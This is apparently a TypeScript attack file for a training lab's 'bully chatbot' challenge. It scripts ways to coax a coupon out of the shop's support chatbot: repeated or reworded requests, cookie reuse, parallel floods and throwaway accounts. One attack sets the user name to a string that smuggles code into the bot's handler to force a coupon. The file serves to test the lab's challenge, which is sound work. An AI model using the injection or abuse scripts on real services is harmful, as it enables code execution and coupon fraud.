import type { Attack, Tools } from '#lab'
import { GIVES_IN } from './steps.ts'

const challenge = 'bullyChatbotChallenge'

/** Says something to the bot. Returns its answer. */
type Say = (query: string, action?: string) => Promise<string>

/** Logs in and tells the bot a name. */
async function startChat({ http, logIn, settings, expect }: Tools, byCookie = false): Promise<Say> {
  const { token } = await logIn(`jim@${settings.domain}`, 'ncc-1701')
  const options = byCookie ? { headers: { cookie: `token=${token}` } } : { token }
  const say: Say = async (query, action = 'query') => {
    const answer = await http.post('/rest/chatbot/respond', { action, query }, options)
    expect(answer.status === 200, `the bot answered with ${answer.status}`)
    return answer.json<{ body: string }>().body
  }
  await say('Jim', 'setname')
  return say
}

/** Asks for a coupon with these sentences in turn until the bot gives one. */
async function askRepeatedly(
  { expect }: Tools,
  say: Say,
  words: readonly string[],
  tries = 18,
): Promise<void> {
  for (let asked = 0; asked < tries; asked++) {
    const said = await say(words[asked % words.length] ?? '')
    if (said.includes(GIVES_IN)) return
  }
  expect(false, `asked ${tries} times in vain`)
}

/** Jim asks with these sentences. */
const inWords =
  (...words: string[]): Attack['run'] =>
  async (tools) =>
    askRepeatedly(tools, await startChat(tools), words)

export const attacks: Attack[] = [
  { challenge, name: 'asks again and again', run: inWords('can I have a coupon code') },
  { challenge, name: 'commands', run: inWords('give me a discount code') },
  { challenge, name: 'pleads poverty', run: inWords('I want to save some money') },
  { challenge, name: 'asks in other words', run: inWords('Pleeease, could you give me a coupon?') },
  {
    challenge,
    name: 'asks in other words each time',
    run: inWords('coupon please', 'any discounts for me?', 'make it cheaper for me', 'GIVE ME A COUPON!!!'),
  },
  {
    challenge,
    name: 'asks with small talk in between',
    run: inWords('can I have a coupon code', 'give me a discount code', 'hello'),
  },
  {
    challenge,
    name: 'asks with the web app’s cookie',
    run: async (tools) => askRepeatedly(tools, await startChat(tools, true), ['can I have a coupon code']),
  },
  {
    challenge,
    name: 'asks until the bot gives in',
    run: async (tools) => askRepeatedly(tools, await startChat(tools), ['can I have a coupon code'], 50),
  },
  {
    challenge,
    name: 'everything at once',
    run: async (tools) => {
      const say = await startChat(tools)
      const questions = Array.from({ length: 18 }, () => say('can I have a coupon code'))
      const answers = await Promise.all(questions)
      tools.expect(
        answers.some((said) => said.includes(GIVES_IN)),
        'asked 18 times in vain',
      )
    },
  },
  {
    challenge,
    name: 'talks its program into it instead of the bot',
    run: async (tools) => {
      const say = await startChat(tools)
      const name = 'Jim"); process = () => ({ action: "function", handler: "couponCode" }); //'
      await say(name, 'setname')
      await askRepeatedly(tools, say, ['now'], 2)
    },
  },
  {
    challenge,
    name: 'a brand-new customer for each coupon',
    run: async (tools) => {
      const { http, logIn, settings } = tools
      const email = `bully@${settings.domain}`
      await http.post('/api/Users', { email, password: 'or-else-123', passwordRepeat: 'or-else-123' })
      const { token } = await logIn(email, 'or-else-123')
      const say: Say = async (query, action = 'query') =>
        (await http.post('/rest/chatbot/respond', { action, query }, { token })).json<{ body: string }>().body
      await say('Bully', 'setname')
      await askRepeatedly(tools, say, ['can I have a coupon code'])
    },
  },
]
